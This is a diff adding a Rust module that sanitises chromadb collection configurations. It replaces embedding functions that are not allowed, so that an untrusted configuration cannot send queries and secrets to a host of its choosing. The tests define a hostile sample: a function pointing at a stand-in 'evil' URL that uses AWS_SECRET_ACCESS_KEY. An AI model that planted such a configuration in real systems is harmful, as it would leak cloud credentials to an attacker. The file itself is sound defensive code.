@@ -1,0 +1,188 @@
+//! Embedding functions that a collection's configuration names. A reader's chromadb makes them when it
+//! opens the collection, and sends every query to where their configuration says, with the secret of
+//! the environment variable that it names: a configuration of unknown origin must not choose one.
+//!
+//! Of chromadb 1.x: `config_json_str` has one under `embedding_function`; `schema_str` (1.3 and later)
+//! has one beside each vector index.
+
+use std::fmt;
+
+use serde::{Deserialize, Serialize};
+use serde_json::{Map, Value, json};
+
+const KEY: &str = "embedding_function";
+/// Beside this index stands the function of sparse vectors.
+const SPARSE: &str = "sparse_vector_index";
+/// What chromadb takes if nobody names one. It asks no service, and its configuration is empty.
+const DEFAULT: &str = "default";
+
+/// An embedding function, by the name under which chromadb registers it.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct EmbeddingFunction {
+    /// Its registered name, such as `openai`.
+    pub name: String,
+    /// What it is made from: model, address, the variable with its key.
+    #[serde(default)]
+    pub config: Map<String, Value>,
+}
+
+impl fmt::Display for EmbeddingFunction {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(&self.name)?;
+        match self.config.is_empty() {
+            true => Ok(()),
+            false => write!(f, " {}", Value::Object(self.config.clone())),
+        }
+    }
+}
+
+impl EmbeddingFunction {
+    /// Reads one that chromadb would make; `None` for those that stand for none.
+    fn read(value: &Value) -> Option<Self> {
+        // Of a dense index chromadb makes one of any other type, if there is a name.
+        let stands_for_none = match value.get("type").and_then(Value::as_str) {
+            Some("legacy") => true,
+            Some("unknown") => value.get("name").is_none(),
+            _ => value.is_null(),
+        };
+        if stands_for_none {
+            return None;
+        }
+        let text = |key: &str| value.get(key).and_then(Value::as_str);
+        let config = value.get("config").and_then(Value::as_object);
+        Some(Self {
+            name: text("name").unwrap_or_default().to_owned(),
+            config: config.cloned().unwrap_or_default(),
+        })
+    }
+
+    fn is_default(&self) -> bool {
+        self.name == DEFAULT && self.config.is_empty()
+    }
+}
+
+/// The embedding functions that the columns of a collection name, each once, but for chromadb's default.
+pub(crate) fn named<'c>(
+    columns: impl IntoIterator<Item = Option<&'c str>>,
+) -> Vec<EmbeddingFunction> {
+    let columns = columns.into_iter().flatten();
+    let mut named = Vec::new();
+    // What cannot be read is a finding of its own.
+    for mut json in columns.filter_map(|text| serde_json::from_str(text).ok()) {
+        visit(&mut json, false, &mut |value, _| {
+            let found = EmbeddingFunction::read(value).filter(|one| !one.is_default());
+            named.extend(found.filter(|one| !named.contains(one)));
+        });
+    }
+    named
+}
+
+/// The column without the embedding functions that are neither `allowed` nor chromadb's default, and
+/// those that were left out. The text stays as it is if nothing is.
+pub(crate) fn only_allowed(
+    column: String,
+    allowed: &[EmbeddingFunction],
+) -> (String, Vec<EmbeddingFunction>) {
+    let Ok(mut json) = serde_json::from_str::<Value>(&column) else {
+        return (column, Vec::new());
+    };
+    let mut left_out = Vec::new();
+    visit(&mut json, false, &mut |value, is_sparse| {
+        if let Some(found) = EmbeddingFunction::read(value)
+            && !found.is_default()
+            && !allowed.contains(&found)
+        {
+            let none = if is_sparse { "unknown" } else { "legacy" };
+            // Not deeper than it was: it must stay readable.
+            *value = match value {
+                Value::Object(_) | Value::Array(_) => json!({ "type": none }),
+                _ => Value::Null,
+            };
+            left_out.push(found);
+        }
+    });
+    match left_out.is_empty() {
+        true => (column, left_out),
+        false => (json.to_string(), left_out),
+    }
+}
+
+/// Calls `each` with the value of every key `embedding_function`, and whether it is of sparse vectors.
+fn visit(json: &mut Value, is_sparse: bool, each: &mut impl FnMut(&mut Value, bool)) {
+    match json {
+        Value::Object(fields) => {
+            for (key, value) in fields {
+                match key == KEY {
+                    true => each(value, is_sparse),
+                    false => visit(value, is_sparse || key == SPARSE, each),
+                }
+            }
+        }
+        Value::Array(values) => values
+            .iter_mut()
+            .for_each(|value| visit(value, is_sparse, each)),
+        _ => {}
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const EVIL: &str = r#"{"type":"known","name":"huggingface_server","config":{"url":"http://evil","api_key_env_var":"AWS_SECRET_ACCESS_KEY"}}"#;
+
+    fn config(function: &str) -> String {
+        format!(r#"{{ "vector_index": {{}}, "embedding_function": {function} }}"#)
+    }
+
+    #[test]
+    fn a_function_that_is_not_allowed_is_left_out() {
+        let (text, left_out) = only_allowed(config(EVIL), &[]);
+        assert_eq!(
+            text,
+            r#"{"vector_index":{},"embedding_function":{"type":"legacy"}}"#
+        );
+        assert_eq!(left_out.len(), 1);
+        assert_eq!(named([Some(config(EVIL).as_str())]), left_out);
+        assert!(left_out[0].to_string().starts_with("huggingface_server {"));
+        let (text, left_out) = only_allowed(config(EVIL), &left_out);
+        assert_eq!((text, left_out), (config(EVIL), Vec::new()));
+    }
+
+    #[test]
+    fn what_stands_for_none_stays_to_the_byte() {
+        for harmless in [
+            r#"{"type": "legacy"}"#,
+            r#"{"type":"unknown"}"#,
+            "null",
+            r#"{"type":"known","name":"default","config":{}}"#,
+        ] {
+            let (text, left_out) = only_allowed(config(harmless), &[]);
+            assert_eq!((text, left_out), (config(harmless), Vec::new()));
+            assert!(
+                named([Some(config(harmless).as_str())]).is_empty(),
+                "{harmless}"
+            );
+        }
+    }
+
+    #[test]
+    fn all_places_and_spellings_are_looked_at() {
+        let escaped = r#"{"embedding\u005ffunction":{"name":"openai"}}"#;
+        assert_eq!(only_allowed(escaped.to_owned(), &[]).1.len(), 1);
+        let odd = config(r#"{"type":"known","name":"default","config":{"url":"http://evil"}}"#);
+        assert_eq!(only_allowed(odd, &[]).1.len(), 1);
+        for kind in ["Known", "unknown"] {
+            let odd = config(&format!(r#"{{"type":"{kind}","name":"openai"}}"#));
+            assert_eq!(only_allowed(odd, &[]).1.len(), 1, "{kind}");
+        }
+        let schema = format!(
+            r##"{{"keys":{{"#embedding":{{"float_list":{{"vector_index":{{"config":{{"embedding_function":{EVIL}}}}}}}}},
+            "sparse":{{"sparse_vector":{{"sparse_vector_index":{{"config":{{"embedding_function":{EVIL}}}}}}}}}}}}}"##
+        );
+        let (text, left_out) = only_allowed(schema, &[]);
+        assert_eq!(left_out.len(), 2);
+        assert!(!text.contains("evil"), "{text}");
+        assert!(text.contains(r#"{"type":"unknown"}"#), "{text}");
+    }
+}
